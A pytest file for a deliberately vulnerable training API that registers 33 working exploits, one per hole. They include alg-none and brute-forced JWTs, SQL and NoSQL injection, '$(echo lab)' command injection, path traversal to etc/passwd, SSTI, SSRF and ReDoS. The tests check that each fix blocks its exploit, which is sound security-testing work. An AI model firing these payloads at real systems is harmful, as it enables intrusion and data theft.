"""Every hole of the manifest: its exploit works on the open lab and fails once the hole is fixed.

Each exploit returns True when the attack worked. It runs three times: against the lab with every
hole open, with only its own hole closed (so each fix is independent), and with every hole closed.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Awaitable, Callable

import httpx
import pytest
from lab_helpers import Canary, bearer, lab_client

from apiward.lab.holes import hole_ids
from apiward.lab.tokens import encode_hs256

Exploit = Callable[[httpx.AsyncClient, Canary], Awaitable[bool]]
EXPLOITS: dict[str, Exploit] = {}


def exploit(hole_id: str) -> Callable[[Exploit], Exploit]:
    def register(function: Exploit) -> Exploit:
        EXPLOITS[hole_id] = function
        return function

    return register


def _unsigned_token(claims: dict[str, object]) -> str:
    def encode(part: dict[str, object]) -> str:
        return base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode()

    return f"{encode({'alg': 'none', 'typ': 'JWT'})}.{encode(claims)}."


async def _me_with(client: httpx.AsyncClient, token: str) -> httpx.Response:
    return await client.get("/api/v1/users/me", headers={"Authorization": f"Bearer {token}"})


# API1


@exploit("bola-read")
async def read_other_order(client: httpx.AsyncClient, canary: Canary) -> bool:
    response = await client.get("/api/v1/orders/3", headers=await bearer(client, "alice"))
    return response.status_code == 200 and response.json()["owner_id"] == 2


@exploit("bola-write")
async def write_other_order(client: httpx.AsyncClient, canary: Canary) -> bool:
    await client.put("/api/v1/orders/3", json={"quantity": 42}, headers=await bearer(client, "alice"))
    seen_by_bob = await client.get("/api/v1/orders/3", headers=await bearer(client, "bob"))
    return seen_by_bob.json()["quantity"] == 42


@exploit("id-enumeration")
async def enumerate_users(client: httpx.AsyncClient, canary: Canary) -> bool:
    headers = await bearer(client, "alice")
    found = [
        (await client.get(f"/api/v1/users/{user_id}", headers=headers)).status_code for user_id in (2, 3)
    ]
    return found == [200, 200]


# API2


@exploit("unauthenticated-access")
async def report_without_token(client: httpx.AsyncClient, canary: Canary) -> bool:
    return (await client.get("/api/v1/reports/sales")).status_code == 200


@exploit("jwt-alg-none")
async def unsigned_token(client: httpx.AsyncClient, canary: Canary) -> bool:
    token = _unsigned_token({"sub": "admin", "role": "admin", "exp": int(time.time()) + 600})
    response = await _me_with(client, token)
    return response.status_code == 200 and response.json()["username"] == "admin"


@exploit("jwt-bad-signature")
async def wrong_key_token(client: httpx.AsyncClient, canary: Canary) -> bool:
    claims = {"sub": "admin", "exp": int(time.time()) + 600}
    token = encode_hs256(claims, "a-key-the-server-never-had-0123456789")
    return (await _me_with(client, token)).status_code == 200


@exploit("jwt-expired")
async def expired_token(client: httpx.AsyncClient, canary: Canary) -> bool:
    secret = client.app.state.lab.tokens.secret  # type: ignore[attr-defined]
    token = encode_hs256({"sub": "alice", "exp": int(time.time()) - 3600}, secret)
    return (await _me_with(client, token)).status_code == 200


@exploit("jwt-weak-secret")
async def crack_secret(client: httpx.AsyncClient, canary: Canary) -> bool:
    # The attack is offline: try a word list against a token the server issued.
    token = (await bearer(client, "alice"))["Authorization"].removeprefix("Bearer ")
    header, payload, signature = token.split(".")
    for word in ("password", "changeme", "secret", "jwt"):
        mac = hmac.new(word.encode(), f"{header}.{payload}".encode(), hashlib.sha256).digest()
        if base64.urlsafe_b64encode(mac).rstrip(b"=").decode() == signature:
            return True
    return False


@exploit("user-enumeration")
async def tell_users_apart(client: httpx.AsyncClient, canary: Canary) -> bool:
    unknown = await client.post("/api/v1/auth/login", json={"username": "nobody", "password": "x"})
    wrong = await client.post("/api/v1/auth/login", json={"username": "alice", "password": "x"})
    return (unknown.status_code, unknown.json()) != (wrong.status_code, wrong.json())


@exploit("login-no-throttle")
async def guess_passwords(client: httpx.AsyncClient, canary: Canary) -> bool:
    statuses = [
        (
            await client.post("/api/v1/auth/login", json={"username": "bob", "password": f"guess{n}"})
        ).status_code
        for n in range(8)
    ]
    return 429 not in statuses


# API3


@exploit("sensitive-data")
async def read_secrets(client: httpx.AsyncClient, canary: Canary) -> bool:
    body = (await client.get("/api/v1/users/me", headers=await bearer(client, "alice"))).json()
    return body.get("card_number") == "4111111111111111" and "password_hash" in body


@exploit("undeclared-field")
async def read_internal_fields(client: httpx.AsyncClient, canary: Canary) -> bool:
    body = (await client.get("/api/v1/orders/1", headers=await bearer(client, "alice"))).json()
    declared = set(client.app.openapi()["components"]["schemas"]["OrderOut"]["properties"])  # type: ignore[attr-defined]
    return bool(set(body) - declared)


@exploit("mass-assignment")
async def sign_up_as_admin(client: httpx.AsyncClient, canary: Canary) -> bool:
    account = {"username": "mallory", "password": "mallory-pass", "email": "m@lab.example", "role": "admin"}
    token = (await client.post("/api/v1/auth/signup", json=account)).json()["access_token"]
    return (await _me_with(client, token)).json()["role"] == "admin"


# API4


@exploit("no-rate-limit")
async def burst_products(client: httpx.AsyncClient, canary: Canary) -> bool:
    statuses = [(await client.get("/api/v1/products")).status_code for _ in range(40)]
    return 429 not in statuses


@exploit("unbounded-page-size")
async def huge_page(client: httpx.AsyncClient, canary: Canary) -> bool:
    response = await client.get(
        "/api/v1/orders", params={"limit": 100000}, headers=await bearer(client, "alice")
    )
    return response.status_code == 200 and response.json()["limit"] == 100000


@exploit("oversized-body")
async def huge_body(client: httpx.AsyncClient, canary: Canary) -> bool:
    response = await client.post("/api/v1/feedback", json={"message": "A" * 3_000_000})
    return response.status_code == 201 and response.json()["length"] == 3_000_000


@exploit("redos")
async def backtracking_email(client: httpx.AsyncClient, canary: Canary) -> bool:
    async def fastest_of_two(length: int) -> float:
        timings = []
        for _ in range(2):
            start = time.perf_counter()
            response = await client.post("/api/v1/newsletter", json={"email": "a" * length + "!"})
            timings.append(time.perf_counter() - start)
            assert response.status_code == 422
        return min(timings)

    # Exponential backtracking makes 22 characters cost hundreds of times what 12 cost; the
    # linear pattern costs the same for both. The best of two runs filters out scheduling noise.
    short, long = await fastest_of_two(12), await fastest_of_two(22)
    return long > 10 * short + 0.05


# API5


@exploit("admin-function")
async def list_users_as_user(client: httpx.AsyncClient, canary: Canary) -> bool:
    response = await client.get("/api/v1/admin/users", headers=await bearer(client, "alice"))
    return response.status_code == 200 and len(response.json()) == 3


@exploit("method-switch")
async def post_on_get_only_path(client: httpx.AsyncClient, canary: Canary) -> bool:
    product = {"name": "free laptop", "price_cents": 0}
    response = await client.post("/api/v1/products", json=product, headers=await bearer(client, "alice"))
    return response.status_code == 201


# API6


@exploit("business-flow")
async def redeem_twice(client: httpx.AsyncClient, canary: Canary) -> bool:
    headers = await bearer(client, "alice")
    statuses = [
        (await client.post("/api/v1/coupons/redeem", json={"code": "WELCOME10"}, headers=headers)).status_code
        for _ in range(3)
    ]
    return statuses == [200, 200, 200]


# API7


@exploit("ssrf")
async def fetch_canary(client: httpx.AsyncClient, canary: Canary) -> bool:
    url = canary.url("/ssrf-probe")
    response = await client.post(
        "/api/v1/webhooks/test", json={"url": url}, headers=await bearer(client, "alice")
    )
    reached = canary.paths == ["/ssrf-probe"]
    return response.status_code == 200 and response.json()["body"] == "canary-body" and reached


# API8


@exploit("security-headers")
async def no_security_headers(client: httpx.AsyncClient, canary: Canary) -> bool:
    headers = (await client.get("/api/v1/products")).headers
    return "x-content-type-options" not in headers and "cache-control" not in headers


@exploit("cors")
async def reflected_origin(client: httpx.AsyncClient, canary: Canary) -> bool:
    headers = (await client.get("/api/v1/products", headers={"Origin": "https://attacker.invalid"})).headers
    allowed = headers.get("access-control-allow-origin") == "https://attacker.invalid"
    return allowed and headers.get("access-control-allow-credentials") == "true"


@exploit("stack-trace")
async def traceback_in_error(client: httpx.AsyncClient, canary: Canary) -> bool:
    response = await client.get("/api/v1/products/1/price", params={"currency": "XXX"})
    return "Traceback (most recent call last)" in response.text


@exploit("trace-method")
async def trace_echo(client: httpx.AsyncClient, canary: Canary) -> bool:
    response = await client.request("TRACE", "/api/v1/products", headers={"Cookie": "session=s3cr3t"})
    return response.status_code == 200 and "session=s3cr3t" in response.text


# API9


@exploit("old-version")
async def retired_api(client: httpx.AsyncClient, canary: Canary) -> bool:
    response = await client.get("/api/v0/orders/3")
    return response.status_code == 200 and "internal_note" in response.json()


@exploit("undocumented-path")
async def debug_route(client: httpx.AsyncClient, canary: Canary) -> bool:
    response = await client.get("/api/v1/internal/debug")
    return response.status_code == 200 and "jwt_secret" in response.json()


@exploit("exposed-docs")
async def swagger_ui(client: httpx.AsyncClient, canary: Canary) -> bool:
    return (await client.get("/docs")).status_code == 200


# Injection


@exploit("sqli")
async def boolean_sqli(client: httpx.AsyncClient, canary: Canary) -> bool:
    always = await client.get("/api/v1/products/search", params={"q": "zzz' OR 1=1 --"})
    return always.status_code == 200 and len(always.json()) == 3


@exploit("nosqli")
async def operator_login(client: httpx.AsyncClient, canary: Canary) -> bool:
    response = await client.post(
        "/api/v1/auth/api-key-login", json={"username": "admin", "api_key": {"$ne": ""}}
    )
    return response.status_code == 200


@exploit("os-command")
async def shell_injection(client: httpx.AsyncClient, canary: Canary) -> bool:
    plain = (await client.post("/api/v1/tools/checksum", json={"text": "lab"})).json()["sha256"]
    injected = (await client.post("/api/v1/tools/checksum", json={"text": "$(echo lab)"})).json()["sha256"]
    # Equal digests mean the shell ran "echo lab" from inside the text.
    return injected == plain


@exploit("path-traversal")
async def read_etc_passwd(client: httpx.AsyncClient, canary: Canary) -> bool:
    response = await client.get("/api/v1/files", params={"name": "../" * 12 + "etc/passwd"})
    return response.status_code == 200 and "root:" in response.text


@exploit("ssti")
async def template_arithmetic(client: httpx.AsyncClient, canary: Canary) -> bool:
    response = await client.get("/api/v1/greetings", params={"name": "{{7*191}}"})
    return "1337" in response.text


def test_every_hole_has_an_exploit() -> None:
    assert sorted(EXPLOITS) == sorted(hole_ids())
    assert len(EXPLOITS) == 33


@pytest.mark.parametrize("hole_id", hole_ids())
async def test_exploit_works_when_open(hole_id: str, canary: Canary) -> None:
    async with lab_client(fixed=False) as client:
        assert await EXPLOITS[hole_id](client, canary)


@pytest.mark.parametrize("hole_id", hole_ids())
async def test_exploit_fails_when_fixed(hole_id: str, canary: Canary) -> None:
    async with lab_client(fixed={hole_id}) as client:
        assert not await EXPLOITS[hole_id](client, canary)


@pytest.mark.parametrize("hole_id", hole_ids())
async def test_exploit_fails_when_all_fixed(hole_id: str, canary: Canary) -> None:
    async with lab_client(fixed=True) as client:
        assert not await EXPLOITS[hole_id](client, canary)
